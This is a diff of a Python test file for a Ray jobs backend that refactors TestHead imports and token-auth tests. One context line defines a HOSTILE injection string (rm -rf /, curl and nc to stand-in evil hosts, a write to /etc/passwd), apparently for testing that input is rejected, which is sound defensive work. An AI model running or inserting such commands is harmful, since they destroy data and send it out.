@@ -43,6 +43,7 @@ from tests.ray.conftest import (
     terminal,
     wait_for,
 )
+from tests.support.ray_heads import TestHead
 
 HOSTILE = "relu; rm -rf / $(curl http://evil.example/x) `id` | nc evil 1 && echo pwned > /etc/passwd"
 SHELL_META = set(";|&$`<>(){}*?!\\'\"\n")
@@ -306,7 +307,7 @@ def test_the_backend_satisfies_the_port(tmp_path: Path) -> None:
 
 
 @pytest.mark.ray
-def test_token_auth_is_on(ray_head: ray_local.TestHead, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_token_auth_is_on(ray_head: TestHead, monkeypatch: pytest.MonkeyPatch) -> None:
     url = f"{ray_head.address}/api/jobs/"
     assert httpx.get(url, timeout=10).status_code == 401
     assert httpx.get(url, headers=ray_local.auth_headers(SecretStr("0" * 64)), timeout=10).status_code == 403
@@ -333,9 +334,7 @@ def test_token_auth_is_on(ray_head: ray_local.TestHead, monkeypatch: pytest.Monk
 
 
 @pytest.mark.ray
-def test_a_wrong_token_is_a_transient_error_that_does_not_leak_it(
-    ray_head: ray_local.TestHead, tmp_path: Path
-) -> None:
+def test_a_wrong_token_is_a_transient_error_that_does_not_leak_it(ray_head: TestHead, tmp_path: Path) -> None:
     wrong = "f" * 64
     settings = _settings(tmp_path, ray_auth_token=SecretStr(wrong))
     backend = RayJobsBackend(address=ray_head.address, settings=settings)
@@ -508,7 +507,7 @@ def _head_pids(temp_dir: str, name: str) -> list[int]:
 
 
 def test_head_settings_point_at_the_session_head_without_starting_one(tmp_path: Path) -> None:
-    head = ray_local.TestHead(
+    head = TestHead(
         address="http://127.0.0.1:1", data_dir=tmp_path, dashboard_port=1, token=SecretStr("t" * 64)
     )
     backend = RayJobsBackend(address=None, settings=head_settings(head))
